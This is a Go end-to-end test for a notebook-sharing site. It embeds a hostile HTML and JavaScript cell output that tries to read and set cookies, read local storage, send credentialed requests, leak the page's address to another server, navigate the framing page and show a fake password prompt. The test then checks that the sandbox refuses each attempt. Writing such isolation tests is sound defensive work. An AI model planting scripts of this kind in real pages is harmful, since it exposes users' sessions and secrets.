package e2e_test

import (
	"bytes"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"image"
	"image/png"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
	"github.com/google/go-cmp/cmp"
)

// hostileOutput is what a student's program printed as HTML: it tries what a page of our
// own origin could do, and says what came of it.
const hostileOutput = `<div id="mine">shown</div><meta name="referrer" content="unsafe-url">
<form id="form" action="/containerKill/tour/alice" method="post"></form><iframe id="frame" src="/"></iframe>
<script>
const said = {};
const attempt = async (name, f) => { try { said[name] = String(await f()); } catch (e) { said[name] = 'refused: ' + e.name; } };
const framed = (src) => new Promise(yes => { const f = document.createElement('iframe'); f.src = src; f.onload = () => { try { yes(f.contentWindow.document.title); } catch (e) { yes('refused: ' + e.name); } }; document.body.append(f); });
addEventListener('load', async () => {
	await attempt('origin', () => self.origin);
	await attempt('cookie', () => document.cookie);
	await attempt('setCookie', () => { document.cookie = 'stolen=1; path=/'; return 'set'; });
	await attempt('localStorage', () => localStorage.getItem('secret'));
	await attempt('indexedDB', () => new Promise((yes, no) => { const r = indexedDB.open('x'); r.onsuccess = () => yes('opened'); r.onerror = () => no(r.error); }));
	await attempt('worker', () => navigator.serviceWorker.register('/snapshots/-/require.js'));
	await attempt('home', async () => (await fetch('/', {credentials: 'include'})).status);
	await attempt('share', async () => (await fetch('/ipythonShare/tour/w1/intro/alice')).status);
	await attempt('post', async () => (await fetch('/openings/x/retry', {method: 'POST', credentials: 'include', headers: {'X-A': 'b'}})).status);
	await attempt('referer', async () => (await fetch('ELSEWHERE/fetch', {mode: 'no-cors', referrerPolicy: 'unsafe-url'})).type);
	await attempt('frame', () => framed('/'));
	await attempt('opening', () => framed('/notebookLazyCopy/tour/w1/intro/alice'));
	await attempt('form', () => { const f = document.getElementById('form'); f.target = '_blank'; f.submit(); return 'sent'; });
	await attempt('popup', () => window.open('/').document.title);
	await attempt('dialogue', () => confirm('Your password?'));
	await attempt('parent', () => parent === self ? 'none' : parent.document.title);
	await attempt('top', () => { if (top === self) return 'none'; top.location = '/'; return 'moved'; });
	self.said = said;
	parent.postMessage(said, '*');
});
</script>`

// sharedNotebook has a picture beside it, mathematics, an error and a hostile output.
func sharedNotebook(t *testing.T, elsewhere string) string {
	t.Helper()
	type cell map[string]any
	html := strings.ReplaceAll(hostileOutput, "ELSEWHERE", elsewhere)
	cells := []cell{
		{"cell_type": "markdown", "id": "a", "metadata": cell{}, "source": "# Titre été\n\n![drawn](pics/drawn%20é.png)\n\n$$\\int_0^1 x\\,dx = \\frac{1}{2}$$"},
		{"cell_type": "code", "id": "b", "metadata": cell{}, "execution_count": 1, "source": "1/0", "outputs": []cell{
			{"output_type": "error", "ename": "ZeroDivisionError", "evalue": "division by zero", "traceback": []string{"ZeroDivisionError: division by zero"}},
			{"output_type": "display_data", "metadata": cell{}, "data": cell{"text/html": html}},
		}},
	}
	text, err := json.Marshal(cell{
		"cells": cells, "nbformat": 4, "nbformat_minor": 5,
		"metadata": cell{"kernelspec": cell{"name": "python3", "display_name": "Python 3", "language": "python"}},
	})
	if err != nil {
		t.Fatal(err)
	}
	return string(text)
}

// drawn is a picture of 7 by 5.
func drawn(t *testing.T) string {
	t.Helper()
	var out bytes.Buffer
	if err := png.Encode(&out, image.NewGray(image.Rect(0, 0, 7, 5))); err != nil {
		t.Fatal(err)
	}
	return out.String()
}

// shareByAddress shares a notebook of alice's and returns the URL of the page.
func (s *site) shareByAddress(notebook string) string {
	s.t.Helper()
	begun := time.Now()
	resp, body := s.get(s.url + "/ipythonShare/tour/" + notebook + "/alice")
	var answer struct {
		Path  string `json:"url_path"`
		Error string
	}
	if err := json.Unmarshal([]byte(body), &answer); err != nil || resp.StatusCode != http.StatusOK || answer.Path == "" {
		s.t.Fatalf("got %d %s\n%s", resp.StatusCode, body, s.log)
	}
	s.t.Logf("shared in %s", time.Since(begun).Round(time.Millisecond))
	return s.url + answer.Path
}

// TestASharedNotebook shares a hostile notebook while its server is down, and shows it in a
// browser that has something to steal: alone, and in a frame of a site that may frame it.
func TestASharedNotebook(t *testing.T) {
	for name, runtime := range runtimes {
		t.Run(name, func(t *testing.T) { testSharedNotebook(t, runtime(t)) })
	}
}

func testSharedNotebook(t *testing.T, runtime string) {
	others := &elsewhere{referers: map[string]string{}}
	other := httptest.NewServer(others)
	t.Cleanup(other.Close)
	s := newSite(t, fmt.Sprintf("%sframe_ancestors: [%q, %q]\n", runtime, "'self'", other.URL), tour(t))
	s.open("w1/intro", "alice")
	s.run("server", "stop", "tour", "alice")
	for file, text := range map[string]string{"intro.ipynb": sharedNotebook(t, other.URL), "pics/drawn é.png": drawn(t)} {
		path := s.workspace("alice", "w1/"+file)
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	page := s.shareByAddress("w1/intro")
	if running := s.servers(); len(running) > 0 {
		t.Errorf("servers run: %+v", running)
	}
	window := newBrowser(t)
	see(t, window, "leave something to steal", show(s.url), until(`(document.cookie = 'secret=1; path=/', localStorage.setItem('secret', 1), document.cookie)`))
	see(t, window, "the page alone", show(page), until("self.said"))
	for what, test := range map[string]string{
		"the text":            `document.body.innerText.includes('Titre été') && document.title === 'w1/intro'`,
		"the error":           `document.body.innerText.includes('ZeroDivisionError: division by zero')`,
		"the output":          `document.getElementById('mine').innerText === 'shown'`,
		"the picture":         `document.querySelector('img[alt=drawn]').naturalWidth === 7`,
		"typeset mathematics": `document.querySelector('mjx-container svg')?.getBoundingClientRect().width > 20`,
	} {
		see(t, window, what, until(test))
	}
	want := map[string]string{
		"origin": "null", "cookie": "refused: SecurityError", "setCookie": "refused: SecurityError", "localStorage": "refused: SecurityError",
		"indexedDB": "refused: SecurityError", "worker": "refused: SecurityError", "home": "refused: TypeError", "share": "refused: TypeError", "post": "refused: TypeError",
		"referer": "opaque", "frame": "refused: SecurityError", "opening": "refused: SecurityError", "form": "sent", "popup": "refused: SecurityError", "dialogue": "false", "parent": "none", "top": "none",
	}
	if diff := cmp.Diff(want, said(t, window)); diff != "" {
		t.Errorf("alone (-want +got):\n%s", diff)
	}
	if got := others.referer("/fetch"); got != "from " {
		t.Errorf("a request of the page comes with its address: %q", got)
	}
	want["parent"], want["top"] = "refused: SecurityError", "refused: SecurityError"
	see(t, window, "the page in a frame", show(other.URL+"/?frame="+page), until("self.said"))
	if diff := cmp.Diff(want, said(t, window)); diff != "" {
		t.Errorf("in a frame (-want +got):\n%s", diff)
	}
	see(t, window, "the site is as it was", show(s.url), until("localStorage.getItem('secret') === '1' && document.cookie === 'secret=1'"))
	if text := base64.StdEncoding.EncodeToString([]byte(drawn(t))); !strings.Contains(s.page(page), text) {
		t.Error("the picture is not in the page")
	}
}

// page returns what is at a URL.
func (s *site) page(url string) string {
	s.t.Helper()
	_, body := s.get(url)
	return body
}

// TestWhatAStudentShares has a student share, look up and withdraw a notebook by the
// pages that the bar leads to, once their server is gone.
func TestWhatAStudentShares(t *testing.T) {
	s := newSite(t, runtimes["process"](t), tour(t))
	pages := s.base(s.open("w1/intro", "alice")) + "-/"
	s.run("server", "stop", "tour", "alice")
	window := newBrowser(t)
	const list = `document.querySelector('.shares')`
	see(t, window, "share", show(pages+"shares?notebook=w1/intro.ipynb"), until(`document.querySelector('form button')`),
		chromedp.Click(chromedp.CSS("form button")), until(list))
	address, err := chromedp.Run(window, chromedp.Evaluate[string](`document.querySelector('.shares a').href`))
	if err != nil {
		t.Fatal(err)
	}
	if resp, body := s.get(address); resp.StatusCode != http.StatusOK || !strings.Contains(body, "secret_word") {
		t.Errorf("%s: got %s, %d bytes", address, resp.Status, len(body))
	}
	judge(t, window, []audit{
		{"shares", pages + "shares?notebook=w1/intro.ipynb", list},
		{"another notebook", pages + "shares?notebook=v1.2-text.md", `document.querySelector('form button')`},
	})
	see(t, window, "withdraw", show(pages+"shares"), until(list), chromedp.Click(chromedp.CSS("button.quiet")), until("!"+list+" && document.querySelector('main p')"))
	if resp, _ := s.get(address); resp.StatusCode != http.StatusNotFound {
		t.Errorf("%s: got %s", address, resp.Status)
	}
}
